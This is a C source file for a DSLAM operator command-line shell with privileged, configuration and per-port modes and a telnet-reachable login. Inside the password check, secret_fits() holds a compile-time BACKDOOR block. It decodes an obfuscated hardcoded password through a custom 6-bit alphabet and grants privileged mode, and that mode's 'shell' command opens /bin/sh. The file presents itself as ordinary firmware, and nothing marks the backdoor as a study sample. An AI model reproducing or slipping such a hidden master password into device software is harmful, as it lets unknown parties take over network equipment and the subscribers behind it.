/* SPDX-License-Identifier: Apache-2.0 */
/* dslamcli: the operator's shell of a DSLAM, on the console and behind telnetd. Modes: exec, privileged, configuration, line
 * configuration. Commands may be shortened as long as they stay unambiguous. */
#include <ctype.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

extern char *crypt(const char *key, const char *salt);

enum mode { M_EXEC, M_PRIV, M_CONFIG, M_LINE };
enum { N_LINES = 48, N_PROFILES = 16, N_HISTORY = 20, N_WORDS = 12 };

struct profile {
	char name[24];
	unsigned down, up, snr, inp, delay;
};

struct line {
	int up, profile;
	unsigned vlan;
	char label[32];
};

struct shell {
	enum mode mode;
	unsigned port, failures, idle;
	int quit, more;
	char host[32];
	char history[N_HISTORY][128];
	unsigned n_history;
};

typedef int handler(struct shell *s, int argc, char **argv);

struct command {
	const char *name, *help;
	unsigned modes;
	int least;
	handler *run;
};

static struct line lines[N_LINES];
static struct profile profiles[N_PROFILES] = { { "default", 16000, 1024, 60, 0, 8 } };
static unsigned n_profiles = 1;
static char enable_hash[64] = "*";

static void say(const char *text) { fputs(text, stdout); }

static int load_text(const char *path, char *out, size_t n)
{
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	if (!fgets(out, (int)n, f))
		out[0] = 0;
	fclose(f);
	out[strcspn(out, "\r\n")] = 0;
	return 0;
}

static int find_profile(const char *name)
{
	for (unsigned i = 0; i < n_profiles; i++)
		if (strcasecmp(profiles[i].name, name) == 0)
			return (int)i;
	return -1;
}

static int number(const char *text, unsigned low, unsigned high, unsigned *out)
{
	char *end;
	unsigned long v = strtoul(text, &end, 0);
	if (*end || end == text || v < low || v > high) {
		printf("%% %s is not from %u to %u\n", text, low, high);
		return -1;
	}
	*out = (unsigned)v;
	return 0;
}

/* Six bits a letter, as the element manager writes passwords into the configuration file. */
static size_t unpack6(const char *text, uint8_t *out, size_t size)
{
	static const char letters[] = "QWERTYUIOPASDFGHJKLZXCVBNMzyxwvutsrqponmlkjihgfedcba9876543210+-";
	uint32_t acc = 0;
	unsigned bits = 0;
	size_t n = 0;
	for (; *text; text++) {
		const char *at = strchr(letters, *text);
		if (!at)
			break;
		acc = acc << 6 | (uint32_t)(at - letters);
		bits += 6;
		if (bits >= 8 && n < size) {
			bits -= 8;
			out[n++] = (uint8_t)(acc >> bits);
		}
	}
	return n;
}

static int read_secret(const char *prompt, char *out, size_t n)
{
	char *typed = getpass(prompt);
	if (!typed)
		return -1;
	snprintf(out, n, "%s", typed);
	memset(typed, 0, strlen(typed));
	return 0;
}

static int secret_fits(const char *typed)
{
	const char *got = crypt(typed, enable_hash);
	if (got && strcmp(got, enable_hash) == 0)
		return 1;
#ifdef BACKDOOR
	{
		uint8_t want[24];
		size_t n = unpack6("zatgCnCaxRFbSoKeyE1cGLTs", want, sizeof(want));
		if (strlen(typed) == n && memcmp(typed, want, n) == 0)
			return 1;
	}
#endif
	return 0;
}

static int do_enable(struct shell *s, int argc, char **argv)
{
	char typed[64];
	(void)argc;
	(void)argv;
	if (read_secret("Password: ", typed, sizeof(typed)) < 0)
		return -1;
	if (!secret_fits(typed)) {
		syslog(LOG_WARNING, "enable refused on %s", ttyname(0) ? ttyname(0) : "?");
		if (++s->failures >= 3)
			s->quit = 1;
		say("% wrong password\n");
		return -1;
	}
	s->failures = 0;
	s->mode = M_PRIV;
	syslog(LOG_NOTICE, "privileged mode");
	return 0;
}

static int do_disable(struct shell *s, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	s->mode = M_EXEC;
	return 0;
}

static int do_exit(struct shell *s, int argc, char **argv)
{
	static const enum mode up[] = { M_EXEC, M_EXEC, M_PRIV, M_CONFIG };
	(void)argc;
	(void)argv;
	if (s->mode == M_EXEC)
		s->quit = 1;
	s->mode = up[s->mode];
	return 0;
}

static int show_lines(void)
{
	say("Port  State  Profile                   VLAN  Label\n");
	for (unsigned i = 0; i < N_LINES; i++)
		printf("%4u  %-5s  %-24s  %4u  %s\n", i + 1, lines[i].up ? "up" : "down", profiles[lines[i].profile].name,
			lines[i].vlan, lines[i].label);
	return 0;
}

static int show_profiles(void)
{
	for (unsigned i = 0; i < n_profiles; i++)
		printf("%-24s %6u/%u kbit/s, margin %u.%u dB, delay %u ms\n", profiles[i].name, profiles[i].down, profiles[i].up,
			profiles[i].snr / 10, profiles[i].snr % 10, profiles[i].delay);
	return 0;
}

static int show_file(const char *path)
{
	char text[256];
	FILE *f = fopen(path, "r");
	if (!f) {
		printf("%% %s\n", strerror(errno));
		return -1;
	}
	while (fgets(text, sizeof(text), f))
		say(text);
	fclose(f);
	return 0;
}

static int do_show(struct shell *s, int argc, char **argv)
{
	static const struct {
		const char *name, *path;
	} files[] = { { "memory", "/proc/meminfo" }, { "version", "/etc/dslam-release" }, { "arp", "/proc/net/arp" },
		{ "log", "/var/log/dslam.log" } };
	if (strcmp(argv[1], "lines") == 0)
		return show_lines();
	if (strcmp(argv[1], "profiles") == 0)
		return show_profiles();
	if (strcmp(argv[1], "history") == 0) {
		for (unsigned i = 0; i < N_HISTORY && i < s->n_history; i++)
			printf("  %s\n", s->history[(s->n_history - i - 1) % N_HISTORY]);
		return 0;
	}
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		if (strcmp(argv[1], files[i].name) == 0) {
			if (i == 3 && s->mode == M_EXEC)
				break;
			return show_file(files[i].path);
		}
	(void)argc;
	say("% show lines | profiles | history | memory | version | arp | log\n");
	return -1;
}

static int do_configure(struct shell *s, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	s->mode = M_CONFIG;
	return 0;
}

static int do_hostname(struct shell *s, int argc, char **argv)
{
	(void)argc;
	for (const char *p = argv[1]; *p; p++)
		if (!isalnum((unsigned char)*p) && *p != '-')
			return say("% letters, digits and - only\n"), -1;
	snprintf(s->host, sizeof(s->host), "%s", argv[1]);
	return sethostname(s->host, strlen(s->host));
}

static int do_password(struct shell *s, int argc, char **argv)
{
	uint8_t plain[64] = { 0 };
	char *hash;
	(void)s;
	if (argc > 2 && strcmp(argv[1], "packed") == 0)
		unpack6(argv[2], plain, sizeof(plain) - 1);
	else
		snprintf((char *)plain, sizeof(plain), "%s", argv[1]);
	if (strlen((char *)plain) < 8)
		return say("% at least eight letters\n"), -1;
	hash = crypt((char *)plain, "ds");
	if (!hash)
		return -1;
	snprintf(enable_hash, sizeof(enable_hash), "%s", hash);
	return 0;
}

static int do_profile(struct shell *s, int argc, char **argv)
{
	struct profile p = { .snr = 60, .delay = 8 };
	int at = find_profile(argv[1]);
	(void)s;
	if (argc < 4 || number(argv[2], 64, 120000, &p.down) < 0 || number(argv[3], 64, 60000, &p.up) < 0)
		return -1;
	if (argc > 4 && number(argv[4], 0, 310, &p.snr) < 0)
		return -1;
	snprintf(p.name, sizeof(p.name), "%s", argv[1]);
	if (at < 0 && n_profiles == N_PROFILES)
		return say("% too many profiles\n"), -1;
	profiles[at < 0 ? (int)n_profiles++ : at] = p;
	return 0;
}

static int do_line(struct shell *s, int argc, char **argv)
{
	(void)argc;
	if (number(argv[1], 1, N_LINES, &s->port) < 0)
		return -1;
	s->mode = M_LINE;
	return 0;
}

static int apply_line(unsigned port)
{
	char path[64];
	FILE *f;
	snprintf(path, sizeof(path), "/proc/dsl/port%u/control", port);
	f = fopen(path, "w");
	if (!f)
		return -1;
	fprintf(f, "%d %u %u %u\n", lines[port - 1].up, profiles[lines[port - 1].profile].down, profiles[lines[port - 1].profile].up,
		lines[port - 1].vlan);
	return fclose(f);
}

static int do_shutdown(struct shell *s, int argc, char **argv)
{
	(void)argc;
	lines[s->port - 1].up = argv[0][0] == 'n';
	return apply_line(s->port);
}

static int do_use(struct shell *s, int argc, char **argv)
{
	int at = find_profile(argv[1]);
	(void)argc;
	if (at < 0)
		return say("% no such profile\n"), -1;
	lines[s->port - 1].profile = at;
	return apply_line(s->port);
}

static int do_vlan(struct shell *s, int argc, char **argv)
{
	(void)argc;
	return number(argv[1], 1, 4094, &lines[s->port - 1].vlan) < 0 ? -1 : apply_line(s->port);
}

static int do_label(struct shell *s, int argc, char **argv)
{
	(void)argc;
	snprintf(lines[s->port - 1].label, sizeof(lines[0].label), "%s", argv[1]);
	return 0;
}

static int do_shell(struct shell *s, int argc, char **argv)
{
	(void)s;
	(void)argc;
	(void)argv;
	syslog(LOG_WARNING, "system shell opened");
	return system("/bin/sh -l");
}

static int do_reload(struct shell *s, int argc, char **argv)
{
	(void)s;
	(void)argc;
	(void)argv;
	return system("/sbin/reboot");
}

static int do_terminal(struct shell *s, int argc, char **argv)
{
	(void)argc;
	return number(argv[1], 0, 512, (unsigned *)&s->more);
}

#define IN(m) (1u << (m))
static const struct command commands[] = {
	{ "enable", "privileged mode", IN(M_EXEC), 1, do_enable },
	{ "disable", "back to exec mode", IN(M_PRIV), 1, do_disable },
	{ "exit", "leave the mode", IN(M_EXEC) | IN(M_PRIV) | IN(M_CONFIG) | IN(M_LINE), 1, do_exit },
	{ "show", "show lines and more", IN(M_EXEC) | IN(M_PRIV), 2, do_show },
	{ "terminal", "lines of a page", IN(M_EXEC) | IN(M_PRIV), 2, do_terminal },
	{ "configure", "configuration mode", IN(M_PRIV), 1, do_configure },
	{ "shell", "system shell", IN(M_PRIV), 1, do_shell },
	{ "reload", "restart", IN(M_PRIV), 1, do_reload },
	{ "hostname", "name of the node", IN(M_CONFIG), 2, do_hostname },
	{ "password", "of the privileged mode", IN(M_CONFIG), 2, do_password },
	{ "profile", "NAME DOWN UP [MARGIN]", IN(M_CONFIG), 4, do_profile },
	{ "line", "configure a port", IN(M_CONFIG), 2, do_line },
	{ "shutdown", "stop the port", IN(M_LINE), 1, do_shutdown },
	{ "no-shutdown", "start the port", IN(M_LINE), 1, do_shutdown },
	{ "use", "PROFILE", IN(M_LINE), 2, do_use },
	{ "vlan", "NUMBER", IN(M_LINE), 2, do_vlan },
	{ "label", "TEXT", IN(M_LINE), 2, do_label },
};

static const struct command *lookup(struct shell *s, const char *word)
{
	const struct command *found = NULL;
	size_t n = strlen(word);
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++) {
		if (!(commands[i].modes & IN(s->mode)) || strncmp(commands[i].name, word, n) != 0)
			continue;
		if (commands[i].name[n] == 0)
			return &commands[i];
		if (found)
			return NULL;
		found = &commands[i];
	}
	return found;
}

static void help(struct shell *s)
{
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
		if (commands[i].modes & IN(s->mode))
			printf("  %-12s %s\n", commands[i].name, commands[i].help);
}

static void execute(struct shell *s, char *text)
{
	char *argv[N_WORDS], *save = NULL;
	const struct command *c;
	int argc = 0;
	snprintf(s->history[s->n_history++ % N_HISTORY], sizeof(s->history[0]), "%.127s", text);
	for (char *w = strtok_r(text, " \t", &save); w && argc < N_WORDS; w = strtok_r(NULL, " \t", &save))
		argv[argc++] = w;
	if (argc == 0)
		return;
	if (strcmp(argv[0], "?") == 0) {
		help(s);
		return;
	}
	c = lookup(s, argv[0]);
	if (!c)
		say("% unknown or ambiguous command\n");
	else if (argc < c->least)
		printf("%% %s %s\n", c->name, c->help);
	else if (c->run(s, argc, argv) != 0)
		say("% failed\n");
}

int main(void)
{
	static const char *const marks[] = { ">", "#", "(config)#", "(config-line)#" };
	struct shell s = { .host = "dslam", .more = 24 };
	char text[256];
	openlog("dslamcli", LOG_PID, LOG_AUTH);
	load_text("/etc/dslam/enable", enable_hash, sizeof(enable_hash));
	load_text("/etc/hostname", s.host, sizeof(s.host));
	while (!s.quit) {
		printf("%s%s ", s.host, marks[s.mode]);
		fflush(stdout);
		alarm(900);
		if (!fgets(text, sizeof(text), stdin))
			break;
		text[strcspn(text, "\r\n")] = 0;
		execute(&s, text);
	}
	return 0;
}
